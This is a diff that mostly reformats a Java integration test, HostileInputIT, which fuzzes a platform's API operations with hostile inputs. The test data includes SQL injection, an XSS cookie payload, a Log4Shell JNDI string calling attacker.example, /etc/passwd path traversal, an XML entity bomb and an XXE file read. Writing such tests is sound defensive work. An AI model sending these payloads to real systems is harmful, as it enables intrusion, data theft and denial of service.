@@ -3,6 +3,11 @@ package org.g5sahel.pcms.systemtests;
 import static io.restassured.RestAssured.given;
 import static org.assertj.core.api.Assertions.assertThat;
 
+import com.fasterxml.jackson.databind.JsonNode;
+import com.fasterxml.jackson.databind.ObjectMapper;
+import com.fasterxml.jackson.databind.node.ObjectNode;
+import io.restassured.response.Response;
+import io.restassured.specification.RequestSpecification;
 import java.nio.charset.StandardCharsets;
 import java.util.ArrayList;
 import java.util.Collections;
@@ -14,16 +19,8 @@ import java.util.TreeMap;
 import java.util.concurrent.ExecutorService;
 import java.util.concurrent.Executors;
 import java.util.concurrent.Future;
-
 import org.junit.jupiter.api.BeforeAll;
 import org.junit.jupiter.api.Test;
-
-import com.fasterxml.jackson.databind.JsonNode;
-import com.fasterxml.jackson.databind.ObjectMapper;
-import com.fasterxml.jackson.databind.node.ObjectNode;
-
-import io.restassured.response.Response;
-import io.restassured.specification.RequestSpecification;
 
 /**
  * Hostile input on every operation, generated from the services' OpenAPI and sent by a caller who holds the
@@ -36,23 +33,30 @@ class HostileInputIT {
 
     private static final ObjectMapper JSON = new ObjectMapper();
     private static final String HUGE = "A".repeat(300_000);
-    private static final List<String> HOSTILE_STRINGS = List.of("' OR '1'='1' --", "\"; DROP TABLE agency; --",
-            "<script>alert(document.cookie)</script>", "${jndi:ldap://attacker.example/a}", "\u0000\u202e\ud83d\ude00",
-            "../../../../etc/passwd", "Z".repeat(2_000));
+    private static final List<String> HOSTILE_STRINGS = List.of(
+            "' OR '1'='1' --",
+            "\"; DROP TABLE agency; --",
+            "<script>alert(document.cookie)</script>",
+            "${jndi:ldap://attacker.example/a}",
+            "\u0000\u202e\ud83d\ude00",
+            "../../../../etc/passwd",
+            "Z".repeat(2_000));
     private static final String XML_BOMB = "<?xml version=\"1.0\"?><!DOCTYPE lolz [<!ENTITY lol \"lol\">"
             + "<!ENTITY lol2 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">"
             + "<!ENTITY lol3 \"&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;\">]><lolz>&lol3;</lolz>";
-    private static final String XXE = "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>";
+    private static final String XXE =
+            "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>";
 
     private static List<Callers.Caller> callers;
     /**
      * Tables the services' own schedules and consumers write whatever the requests: events relayed and received,
      * idempotency records purged, alerts expiring, inbox items escalating, webhook deliveries retried.
      */
-    private static final java.util.Set<String> BACKGROUND_TABLES = java.util.Set.of("outbox_event", "inbox_event",
-            "idempotency_record", "alert", "inbox_item", "webhook_delivery");
+    private static final java.util.Set<String> BACKGROUND_TABLES = java.util.Set.of(
+            "outbox_event", "inbox_event", "idempotency_record", "alert", "inbox_item", "webhook_delivery");
     /** Hostile strings are data like any other where a field is free text: such writes are accepted, and stored as sent. */
     private static final List<String> ACCEPTED_WRITES = Collections.synchronizedList(new ArrayList<>());
+
     private static final List<String> ACCEPTED = Collections.synchronizedList(new ArrayList<>());
 
     @BeforeAll
@@ -71,7 +75,10 @@ class HostileInputIT {
         List<Future<?>> sent = new ArrayList<>();
         ExecutorService pool = Executors.newFixedThreadPool(4);
         for (OpenApi.Operation operation : OpenApi.operations()) {
-            Callers.Caller caller = callers.stream().filter(c -> c.mayCall(operation)).findFirst().orElse(null);
+            Callers.Caller caller = callers.stream()
+                    .filter(c -> c.mayCall(operation))
+                    .findFirst()
+                    .orElse(null);
             if (caller == null) {
                 continue;
             }
@@ -85,13 +92,20 @@ class HostileInputIT {
                 for (String value : HOSTILE_STRINGS) {
                     sent.add(pool.submit(() -> {
                         // Long values go alone: a request line over 4 KiB is the HTTP server's to refuse (bare 414).
-                        RequestSpecification request = given().config(Platform.BOUNDED).auth().oauth2(caller.token())
+                        RequestSpecification request = given().config(Platform.BOUNDED)
+                                .auth()
+                                .oauth2(caller.token())
                                 .queryParam("q", value);
                         if (value.length() < 500) {
-                            request.queryParam("limit", value).queryParam("cursor", value).queryParam("state", value);
+                            request.queryParam("limit", value)
+                                    .queryParam("cursor", value)
+                                    .queryParam("state", value);
                         }
                         Response response = request.get(operation.directUrl());
-                        check(violations, operation, "hostile query " + value.substring(0, Math.min(20, value.length())),
+                        check(
+                                violations,
+                                operation,
+                                "hostile query " + value.substring(0, Math.min(20, value.length())),
                                 response);
                     }));
                 }
@@ -122,9 +136,15 @@ class HostileInputIT {
                 violations.add(service + ": rows added although every write was refused " + newRows);
             }
         }
-        System.out.printf("Hostile input: %d requests on %d operations; %d writes accepted (free text), rows added %s,"
-                + " %d rows changed or removed; %d violations%n", sent.size(), OpenApi.operations().size(),
-                ACCEPTED_WRITES.size(), added, changedRows, violations.size());
+        System.out.printf(
+                "Hostile input: %d requests on %d operations; %d writes accepted (free text), rows added %s,"
+                        + " %d rows changed or removed; %d violations%n",
+                sent.size(),
+                OpenApi.operations().size(),
+                ACCEPTED_WRITES.size(),
+                added,
+                changedRows,
+                violations.size());
         assertThat(violations).isEmpty();
     }
 
@@ -132,8 +152,13 @@ class HostileInputIT {
     void anOversizeBodyIsRefusedAtTheGateway() {
         byte[] body = new byte[21 * 1024 * 1024];
         java.util.Arrays.fill(body, (byte) 'a');
-        given().auth().oauth2(Tokens.of("ne-investigator")).contentType("application/json").body(body)
-                .post(Platform.GATEWAY + "/api/cases/v1/cases").then().statusCode(413);
+        given().auth()
+                .oauth2(Tokens.of("ne-investigator"))
+                .contentType("application/json")
+                .body(body)
+                .post(Platform.GATEWAY + "/api/cases/v1/cases")
+                .then()
+                .statusCode(413);
     }
 
     private static void check(List<String> violations, OpenApi.Operation operation, String attack, Response response) {
@@ -156,8 +181,11 @@ class HostileInputIT {
     }
 
     private static Response send(OpenApi.Operation operation, Callers.Caller caller, byte[] body) {
-        RequestSpecification request = given().config(Platform.BOUNDED).auth().oauth2(caller.token())
-                .contentType(operation.hasXmlBody() && !operation.hasJsonBody() ? "application/xml" : "application/json")
+        RequestSpecification request = given().config(Platform.BOUNDED)
+                .auth()
+                .oauth2(caller.token())
+                .contentType(
+                        operation.hasXmlBody() && !operation.hasJsonBody() ? "application/xml" : "application/json")
                 .body(body);
         return request.request(operation.method().toUpperCase(java.util.Locale.ROOT), operation.directUrl());
     }
@@ -177,13 +205,20 @@ class HostileInputIT {
         attacks.put("a string", utf8("\"text\""));
         attacks.put("null", utf8("null"));
         attacks.put("deep nesting", utf8("{\"a\":" + "[".repeat(5_000) + "]".repeat(5_000) + "}"));
-        attacks.put("invalid UTF-8", new byte[] { '{', '"', 't', '"', ':', '"', (byte) 0xC3, (byte) 0x28, (byte) 0xFF, '"', '}' });
+        attacks.put(
+                "invalid UTF-8",
+                new byte[] {'{', '"', 't', '"', ':', '"', (byte) 0xC3, (byte) 0x28, (byte) 0xFF, '"', '}'});
         attacks.put("a huge array", utf8("{\"items\":[" + "1,".repeat(100_000) + "1]}"));
-        JsonNode properties = operation.bodySchema() == null ? null : operation.bodySchema().path("properties");
+        JsonNode properties =
+                operation.bodySchema() == null ? null : operation.bodySchema().path("properties");
         if (properties != null && properties.isObject()) {
             properties.fields().forEachRemaining(property -> {
                 if ("string".equals(property.getValue().path("type").asText()) && !attacks.containsKey("huge string")) {
-                    attacks.put("huge string", utf8(JSON.createObjectNode().put(property.getKey(), HUGE).toString()));
+                    attacks.put(
+                            "huge string",
+                            utf8(JSON.createObjectNode()
+                                    .put(property.getKey(), HUGE)
+                                    .toString()));
                 }
             });
             Iterator<Map.Entry<String, JsonNode>> fields = properties.fields();
@@ -193,13 +228,16 @@ class HostileInputIT {
                 if ("string".equals(property.getValue().path("type").asText())) {
                     wrongType.putObject(property.getKey()).put("nested", true);
                 } else {
-                    wrongType.put(property.getKey(), "not a " + property.getValue().path("type").asText("value"));
+                    wrongType.put(
+                            property.getKey(),
+                            "not a " + property.getValue().path("type").asText("value"));
                 }
                 attacks.put("wrong type for " + property.getKey(), utf8(wrongType.toString()));
                 for (String hostile : HOSTILE_STRINGS) {
                     ObjectNode injected = JSON.createObjectNode();
                     injected.put(property.getKey(), hostile);
-                    attacks.put(property.getKey() + " = " + hostile.substring(0, Math.min(20, hostile.length())),
+                    attacks.put(
+                            property.getKey() + " = " + hostile.substring(0, Math.min(20, hostile.length())),
                             utf8(injected.toString()));
                 }
             }
